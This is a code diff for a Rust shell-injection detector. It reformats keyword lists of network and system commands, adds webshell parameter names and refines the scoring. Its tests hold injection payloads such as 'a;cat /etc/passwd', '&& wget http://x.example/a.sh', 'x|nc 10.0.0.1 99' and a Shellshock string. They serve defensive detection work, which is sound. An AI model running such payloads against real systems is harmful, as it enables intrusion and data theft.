@@ -4,21 +4,73 @@ use super::{Hit, Place};
 
 /// Commands whose name alone, after a separator, leaves no doubt.
 const TELLING: &[&[u8]] = &[
-    b"whoami", b"uname", b"wget", b"curl", b"ifconfig", b"ipconfig", b"netstat", b"nslookup", b"tracert", b"traceroute",
-    b"tasklist", b"systeminfo", b"chmod", b"chown", b"busybox", b"tftp", b"nc", b"ncat", b"netcat", b"telnet", b"powershell",
-    b"cmd", b"cmd.exe", b"bash", b"ping", b"ping.exe", b"phpinfo", b"system", b"passthru", b"shell_exec", b"exec", b"base64", b"printenv", b"mkfifo",
-    b"certutil", b"bitsadmin", b"wmic", b"reg", b"net.exe", b"rundll32", b"crontab", b"useradd", b"dig", b"ftpget", b"pwd", b"id", b"ls", b"ps", b"dir", b"lwp-download", b"echo",
+    b"whoami",
+    b"uname",
+    b"wget",
+    b"curl",
+    b"ifconfig",
+    b"ipconfig",
+    b"netstat",
+    b"nslookup",
+    b"tracert",
+    b"traceroute",
+    b"tasklist",
+    b"systeminfo",
+    b"chmod",
+    b"chown",
+    b"busybox",
+    b"tftp",
+    b"nc",
+    b"ncat",
+    b"netcat",
+    b"telnet",
+    b"powershell",
+    b"cmd",
+    b"cmd.exe",
+    b"bash",
+    b"ping",
+    b"ping.exe",
+    b"phpinfo",
+    b"system",
+    b"passthru",
+    b"shell_exec",
+    b"exec",
+    b"base64",
+    b"printenv",
+    b"mkfifo",
+    b"certutil",
+    b"bitsadmin",
+    b"wmic",
+    b"reg",
+    b"net.exe",
+    b"rundll32",
+    b"crontab",
+    b"useradd",
+    b"dig",
+    b"ftpget",
+    b"pwd",
+    b"id",
+    b"ls",
+    b"ps",
+    b"dir",
+    b"lwp-download",
+    b"echo",
 ];
 
 /// Commands that are words as well: they need an argument that no sentence has.
 const COMMON: &[&[u8]] = &[
-    b"cat", b"more", b"less", b"head", b"tail", b"sleep", b"touch", b"type", b"net", b"sh", b"ksh", b"zsh", b"rm", b"cp", b"mv",
-    b"find", b"grep", b"kill", b"cd", b"env", b"set", b"perl", b"python", b"python3", b"php", b"ruby", b"node", b"java", b"gcc", b"vi", b"sed",
-    b"awk", b"who", b"w", b"df", b"mount", b"copy", b"del", b"start", b"rd", b"md", b"ver", b"true", b"false", b"nid", b"timeout", b"export", b"printf", b"test", b"date", b"host", b"su", b"sudo", b"tar", b"mail", b"finger",
+    b"cat", b"more", b"less", b"head", b"tail", b"sleep", b"touch", b"type", b"net", b"sh", b"ksh", b"zsh",
+    b"rm", b"cp", b"mv", b"find", b"grep", b"kill", b"cd", b"env", b"set", b"perl", b"python", b"python3",
+    b"php", b"ruby", b"node", b"java", b"gcc", b"vi", b"sed", b"awk", b"who", b"w", b"df", b"mount", b"copy",
+    b"del", b"start", b"rd", b"md", b"ver", b"true", b"false", b"nid", b"timeout", b"export", b"printf",
+    b"test", b"date", b"host", b"su", b"sudo", b"tar", b"mail", b"finger",
 ];
 
-/// Looks for a command that a shell would run.
-pub(super) fn look(text: &[u8], place: Place) -> Option<Hit> {
+/// Names of parameters that shells left behind by attackers read their command from.
+pub(super) const PARAMETERS: &[&[u8]] = &[b"cmd", b"command", b"exec", b"execute", b"shell", b"system"];
+
+/// Looks for a command that a shell would run; `name` is the parameter's, empty where there is none.
+pub(super) fn look(name: &[u8], text: &[u8], place: Place) -> Option<Hit> {
     let hit = |evidence, what| Some(Hit { evidence, what });
     if is_shellshock(text) {
         return hit(9.0, "a function definition for a vulnerable shell");
@@ -29,14 +81,24 @@ pub(super) fn look(text: &[u8], place: Place) -> Option<Hit> {
     if place == Place::Header {
         return None;
     }
-    let mut best = outright(text);
+    // A file or message may name a shell; a parameter of a URL has no reason to.
+    let mut best = if place.is_body() { outright(text) * 0.4 } else { outright(text) };
     for at in separators(text) {
         best = best.max(command_at(&text[at..], text));
     }
     if text.first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/') {
         best = best.max(bare_command(text));
     }
+    if PARAMETERS.contains(&name) && is_command(text) {
+        best = best.max(4.5);
+    }
     if best > 0.0 { hit(best, "a shell command") } else { None }
+}
+
+/// True where the first word is a command.
+fn is_command(text: &[u8]) -> bool {
+    let (name, ..) = name_of(text);
+    TELLING.contains(&name) || COMMON.contains(&name)
 }
 
 /// `() { :; };`
@@ -51,25 +113,47 @@ fn is_shellshock(text: &[u8]) -> bool {
 /// Signs that need no separator.
 fn outright(text: &[u8]) -> f32 {
     const SIGNS: [(&[u8], f32); 12] = [
-        (b"${ifs", 6.5), (b"$ifs", 6.0), (b"/bin/sh", 6.0), (b"/bin/bash", 6.0), (b"cmd.exe", 5.5), (b"/dev/tcp/", 7.0), (b"cmd /c", 6.0),
-        (b"cmd+/c", 6.0), (b"powershell -", 6.0), (b"powershell.exe", 6.0), (b"bin/busybox", 6.5), (b"${path:", 6.0),
+        (b"${ifs", 6.5),
+        (b"$ifs", 6.0),
+        (b"/bin/sh", 6.0),
+        (b"/bin/bash", 6.0),
+        (b"cmd.exe", 5.5),
+        (b"/dev/tcp/", 7.0),
+        (b"cmd /c", 6.0),
+        (b"cmd+/c", 6.0),
+        (b"powershell -", 6.0),
+        (b"powershell.exe", 6.0),
+        (b"bin/busybox", 6.5),
+        (b"${path:", 6.0),
     ];
-    SIGNS.iter().filter(|(sign, _)| memchr::memmem::find(text, sign).is_some()).map(|(_, e)| *e).fold(0.0, f32::max)
+    SIGNS
+        .iter()
+        .filter(|(sign, _)| memchr::memmem::find(text, sign).is_some())
+        .map(|(_, e)| *e)
+        .fold(0.0, f32::max)
 }
 
 /// Positions just after something that starts a new command.
 fn separators(text: &[u8]) -> impl Iterator<Item = usize> {
     (0..text.len()).filter_map(|at| match &text[at..] {
-        [b';' | b'|' | b'&' | b'`' | b'\n', ..] => Some(at + 1),
+        [b';' | b'|' | b'&' | b'`', ..] => Some(at + 1),
+        // Only short texts are one line that a line break would split; others are written in lines.
+        [b'\n', ..] if text.len() <= 80 => Some(at + 1),
         [b'$' | b'<' | b'>', b'(', ..] => Some(at + 2),
-        [b'\\', b'n', ..] if text.get(at + 2).is_some_and(|b| matches!(b, b'/' | b'a'..=b'z')) => Some(at + 2),
+        [b'\\', b'n', ..] if text.get(at + 2).is_some_and(|b| matches!(b, b'/' | b'a'..=b'z')) => {
+            Some(at + 2)
+        }
         _ => None,
     })
 }
 
 /// Evidence of the command that `rest`, what follows a separator, begins with.
 fn command_at(rest: &[u8], whole: &[u8]) -> f32 {
-    let skip = rest.iter().take(6).take_while(|b| matches!(b, b' ' | b'\'' | b'"' | b'|' | b';' | b'&' | b'(' | b'+')).count();
+    let skip = rest
+        .iter()
+        .take(6)
+        .take_while(|b| matches!(b, b' ' | b'\'' | b'"' | b'|' | b';' | b'&' | b'(' | b'+'))
+        .count();
     let rest = &rest[skip..];
     let (name, after, with_path) = name_of(rest);
     if name.is_empty() {
@@ -79,18 +163,47 @@ fn command_at(rest: &[u8], whole: &[u8]) -> f32 {
     if !telling && !COMMON.contains(&name) {
         return if with_path { 5.0 } else { 0.0 };
     }
-    let short = whole.len() <= 40;
+    // A word after a bare ampersand is half of "research & date".
+    let short = whole.len() <= 40 && whole.first() != Some(&b' ') && !between_words(whole, rest);
+    let markdown = whole[..whole.len() - rest.len()].ends_with(b" `");
     match (argument(after), with_path) {
+        // Code in running text: `ls -l` between words.
+        _ if markdown => 0.8,
         (Argument::None, true) => 6.5,
-        (Argument::None, false) if telling || short => if telling { 6.0 } else { 4.2 },
+        (Argument::None, false) if telling || short => {
+            if telling {
+                6.0
+            } else {
+                4.2
+            }
+        }
         (Argument::None, false) => 0.8,
-        (Argument::Technical, _) => 7.0,
+        (Argument::Technical, _) if telling || with_path => 7.0,
+        (Argument::Technical, _) if is_device_name(after) => 0.0,
+        (Argument::Technical, _) => 6.5,
         (Argument::Word, true) => 6.0,
         (Argument::Word, false) if telling && short => 5.0,
         (Argument::Word, false) if telling => 2.0,
         (Argument::Word, false) => 0.0,
         (Argument::Assignment, _) => 0.0,
     }
+}
+
+/// True for what follows a word in a list of devices or versions rather than a command: `touch 7)`, `net tv.plus`.
+fn is_device_name(after: &[u8]) -> bool {
+    let rest = after.trim_ascii_start();
+    let word = &rest[..rest.iter().take(24).take_while(|b| !matches!(b, b' ' | b')' | b';')).count()];
+    let number =
+        !word.is_empty() && word.iter().all(u8::is_ascii_digit) && rest.get(word.len()) == Some(&b')');
+    let dotted = word.contains(&b'.') && !word.iter().any(|b| matches!(b, b'/' | b'\\' | b':' | b'$' | b'-'));
+    number || dotted && rest.len() > word.len()
+}
+
+/// True for `word & word`: what `rest` follows is a lone separator in a phrase.
+fn between_words(whole: &[u8], rest: &[u8]) -> bool {
+    let before = whole[..whole.len() - rest.len()].trim_ascii_end();
+    let phrase = before.strip_suffix(b"&").or(before.strip_suffix(b";")).or(before.strip_suffix(b"|"));
+    phrase.is_some_and(|phrase| phrase.contains(&b' '))
 }
 
 /// The command's name without its folder, what follows it, and whether it had a folder of programs.
@@ -103,7 +216,11 @@ fn name_of(rest: &[u8]) -> (&[u8], &[u8], bool) {
     }
     let with_path = at > 1 && rest[at - 1] == b'/';
     let rest = &rest[at..];
-    let len = rest.iter().take(24).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')).count();
+    let len = rest
+        .iter()
+        .take(24)
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'))
+        .count();
     let len = if rest[..len].ends_with(b".") { len - 1 } else { len };
     (&rest[..len], &rest[len..], with_path)
 }
@@ -123,7 +240,11 @@ fn argument(after: &[u8]) -> Argument {
     let gap = after.iter().take_while(|b| **b == b' ').count();
     let rest = &after[gap..];
     match rest.first() {
-        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\'' | b'"' | b'#' | b'>' | b'<' | b'\\') if gap == 0 || rest.len() < 64 => Argument::None,
+        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\'' | b'"' | b'#' | b'>' | b'<' | b'\\')
+            if gap == 0 || rest.len() < 64 =>
+        {
+            Argument::None
+        }
         Some(b'=' | b':') if gap == 0 => Argument::Assignment,
         Some(b'-' | b'/' | b'$' | b'.' | b'~' | b'{' | b'*' | b'%') if gap > 0 => Argument::Technical,
         Some(b'$' | b'{' | b'(' | b'/' | b'+' | b'%') => Argument::Technical,
@@ -149,7 +270,15 @@ fn bare_command(text: &[u8]) -> f32 {
     match argument(after) {
         Argument::None if with_path && known => 5.5,
         Argument::Technical if with_path && known => 6.5,
-        Argument::Technical if known && name.len() >= 3 && after.len() < 80 && after.first() == Some(&b' ') && is_line(after) => 4.2,
+        Argument::Technical
+            if known
+                && name.len() >= 3
+                && after.len() < 80
+                && after.first() == Some(&b' ')
+                && is_line(after) =>
+        {
+            4.2
+        }
         _ => 0.0,
     }
 }
@@ -165,15 +294,29 @@ mod tests {
     use super::*;
 
     fn evidence(text: &str) -> f32 {
-        look(text.as_bytes(), Place::Query).map_or(0.0, |hit| hit.evidence)
+        look(b"", text.as_bytes(), Place::Query).map_or(0.0, |hit| hit.evidence)
     }
 
     #[test]
     fn commands_decide() {
         for text in [
-            ";id", "|/usr/bin/id|", "`id`", "$(whoami)", "a;cat /etc/passwd", "& ping -i 30 127.0.0.1 &", "; touch x.txt",
-            "|| dir c:\\", "$(echo${ifs}x)", "';sleep 10;'", "() { :;}; echo", "\n/bin/ls -al", "<!--#exec cmd=\"id\"-->",
-            "&& wget http://x.example/a.sh", "ping -n 3 127.0.0.1", "x|nc 10.0.0.1 99", "%0a;/sbin/reboot",
+            ";id",
+            "|/usr/bin/id|",
+            "`id`",
+            "$(whoami)",
+            "a;cat /etc/passwd",
+            "& ping -i 30 127.0.0.1 &",
+            "; touch x.txt",
+            "|| dir c:\\",
+            "$(echo${ifs}x)",
+            "';sleep 10;'",
+            "() { :;}; echo",
+            "\n/bin/ls -al",
+            "<!--#exec cmd=\"id\"-->",
+            "&& wget http://x.example/a.sh",
+            "ping -n 3 127.0.0.1",
+            "x|nc 10.0.0.1 99",
+            "%0a;/sbin/reboot",
         ] {
             assert!(evidence(text) >= 4.0, "{text}: {}", evidence(text));
         }
@@ -182,9 +325,21 @@ mod tests {
     #[test]
     fn ordinary_text_is_left_alone() {
         for text in [
-            "mozilla/5.0 (windows nt 10.0; win64; x64; rv:130.0)", "dogs; cat people; and more", "fish & chips", "r&d",
-            "a;id=7;type=x", "black | white", "find out more; date and time", "first; type your name", "price & date",
-            "sleep well", "tom & jerry; more to come", "text/html;q=0.9", "head office; host a party", "find 3 items", "test 1",
+            "mozilla/5.0 (windows nt 10.0; win64; x64; rv:130.0)",
+            "dogs; cat people; and more",
+            "fish & chips",
+            "r&d",
+            "a;id=7;type=x",
+            "black | white",
+            "find out more; date and time",
+            "first; type your name",
+            "price & date",
+            "sleep well",
+            "tom & jerry; more to come",
+            "text/html;q=0.9",
+            "head office; host a party",
+            "find 3 items",
+            "test 1",
         ] {
             assert!(evidence(text) < 2.0, "{text}: {}", evidence(text));
         }
